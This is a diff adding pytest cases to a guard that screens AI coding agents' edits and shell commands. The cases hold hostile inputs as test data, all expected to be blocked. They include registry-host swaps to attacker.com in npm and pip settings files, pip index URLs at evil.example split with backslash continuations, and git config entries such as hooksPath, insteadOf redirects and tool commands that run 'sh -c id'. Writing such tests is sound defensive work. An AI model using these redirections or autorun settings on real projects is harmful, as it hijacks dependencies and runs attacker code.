@@ -422,3 +422,108 @@ def test_large_settings_text_is_still_read_and_past_the_cap_blocked() -> None:
 ])
 def test_git_settings_in_the_environment_are_not_seen_so_blocked(command: str) -> None:
     assert _sh(command).reason_code == "shell_interpreter"
+
+
+# -- review: walk-arounds and false positives found after landing --------------------------------------
+HOST_ONLY_EDITS = {
+    "Edit npmrc host": ("Edit", {"file_path": ".npmrc", "old_string": "registry.npmjs.org",
+                                 "new_string": "attacker.com"}),
+    "Edit npmrc host suffix": ("Edit", {"file_path": ".npmrc", "old_string": "npmjs.org",
+                                        "new_string": "npmjs.org.attacker.com"}),
+    "Edit requirements host": ("Edit", {"file_path": "requirements.txt", "old_string": "pypi.org",
+                                        "new_string": "attacker.com"}),
+    "Edit pyproject host": ("Edit", {"file_path": "pyproject.toml", "old_string": "pypi.org",
+                                     "new_string": "attacker.com"}),
+    "Edit package-lock host": ("Edit", {"file_path": "package-lock.json", "old_string": "registry.npmjs.org",
+                                        "new_string": "attacker.com"}),
+    "MultiEdit host": ("MultiEdit", {"file_path": ".npmrc", "edits": [
+        {"old_string": "registry.npmjs.org", "new_string": "attacker.com"}]}),
+    "Gemini replace host": ("replace", {"file_path": "pip.conf", "old_string": "pypi.org",
+                                        "new_string": "attacker.com"}),
+    "text editor str_replace host": ("str_replace_based_edit_tool", {
+        "command": "str_replace", "path": ".npmrc", "old_str": "registry.npmjs.org", "new_str": "attacker.com"}),
+}
+
+
+@pytest.mark.parametrize("case", list(HOST_ONLY_EDITS))
+def test_an_edit_that_replaces_only_the_host_is_read_for_it(case: str) -> None:
+    """The replacement text lands inside a URL the proxy does not see (``https://registry.npmjs.org/``):
+    a bare host in it moves the registry, as ``sed s/registry.npmjs.org/attacker.com/`` does."""
+    tool, args = HOST_ONLY_EDITS[case]
+    a = _call(tool, args)
+    assert (a.decision, a.reason_code) == ("block", "egress_not_allowed"), (case, a.observations)
+    assert "attacker.com" in a.rationale
+
+
+@pytest.mark.parametrize(("tool", "args"), [
+    ("Edit", {"file_path": "package.json", "old_string": '"react": "^18.2.0"',
+              "new_string": '"react": "^18.2.0",\n    "socket.io": "^4.7.0"'}),
+    ("Edit", {"file_path": "package.json", "old_string": '"description": "x"',
+              "new_string": '"description": "A socket.io helper"'}),
+    ("Edit", {"file_path": "pyproject.toml", "old_string": 'packages = ["src"]', "new_string": 'packages = ["src.app"]'}),
+    ("Edit", {"file_path": "pyproject.toml", "old_string": '"0.1.0"', "new_string": '"0.2.0"'}),
+    ("Edit", {"file_path": "requirements.txt", "old_string": "flask==2.0", "new_string": "flask==3.0  # see flask.io"}),
+    ("Edit", {"file_path": ".npmrc", "old_string": "x", "new_string": "# mirror: attacker.com\nsave-exact=true"}),
+    ("Edit", {"file_path": ".npmrc", "old_string": "registry.npmjs.org", "new_string": "registry.npmjs.org"}),
+    ("MultiEdit", {"file_path": "pyproject.toml", "edits": [{"old_string": "a", "new_string": 'name = "app.ai"'}]}),
+])
+def test_ordinary_edits_of_settings_files_pass(tool: str, args: dict[str, object]) -> None:
+    a = _call(tool, args)
+    assert a.decision == "allow", (args, a.rationale)
+
+
+@pytest.mark.parametrize("text", [
+    "--index-url https\\\n://evil.example/simple\nflask\n",
+    "-i https:/\\\n/evil.example/simple\n",
+    "flask\\\n @ https://evil.example/f.whl\n",
+])
+def test_a_requirements_line_continued_with_a_backslash_is_read_joined(text: str) -> None:
+    """pip joins a line ending in ``\\`` with the next before it reads options and URLs."""
+    a = _call("Write", {"file_path": "requirements.txt", "content": text})
+    assert (a.decision, a.reason_code) == ("block", "egress_not_allowed"), a.observations
+
+
+def test_a_comment_ending_in_a_backslash_does_not_swallow_the_next_line() -> None:
+    a = _call("Write", {"file_path": "requirements.txt", "content": "# note \\\n-i https://evil.example/simple\n"})
+    assert a.reason_code == "egress_not_allowed"
+
+
+@pytest.mark.parametrize(("tool", "args"), [
+    ("Write", {"file_path": "~/.gitconfig", "content": "[core]\n\thooksPath = /tmp/h\n"}),
+    ("Write", {"file_path": "/home/u/.gitconfig", "content": '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n'}),
+    ("Write", {"file_path": "~/.config/git/config", "content": "[alias]\n\tx = !id\n"}),
+    ("Edit", {"file_path": ".gitconfig", "old_string": "[user]", "new_string": "[core]\n\tpager = sh -c id\n[user]"}),
+    ("Write", {"file_path": "/etc/gitconfig", "content": "[core]\n\tfsmonitor = ./x\n"}),
+])
+def test_writes_into_git_settings_files_outside_dot_git_are_blocked(tool: str, args: dict[str, object]) -> None:
+    """git reads ``~/.gitconfig``, ``~/.config/git/config`` and ``/etc/gitconfig`` on every run: the same
+    hooks, aliases and ``insteadOf`` as ``.git/config`` (``git config --global core.hooksPath`` was blocked,
+    writing the file it edits was not)."""
+    a = _call(tool, args)
+    assert (a.decision, a.reason_code) == ("block", "autorun_setting"), a.observations
+
+
+@pytest.mark.parametrize("command", [
+    "git config mergetool.x.cmd 'sh -c id'",
+    "git config difftool.x.cmd id",
+    "git config mergetool.x.path ./x.sh",
+    "git config submodule.x.update '!sh -c id'",
+    "git config interactive.diffFilter ./x.sh",
+    "git config trailer.sign.command ./x.sh",
+    "git config browser.x.path ./x.sh",
+    "git config sendemail.sendmailCmd ./x.sh",
+])
+def test_more_git_keys_that_run_programs_are_blocked(command: str) -> None:
+    assert _sh(command).reason_code == "autorun_setting", command
+
+
+@pytest.mark.parametrize("command", [
+    "git config --global merge.tool vimdiff", "git config submodule.x.update rebase",
+    "git config --global diff.tool meld", "git config submodule.x.branch main",
+])
+def test_ordinary_git_tool_choices_pass(command: str) -> None:
+    assert _sh(command).decision == "allow", command
+
+
+def test_a_settings_file_named_with_a_trailing_dot_segment_is_known() -> None:
+    assert settings_kind(".npmrc/.") == "lines" and settings_kind("web/./pip.conf") == "lines"
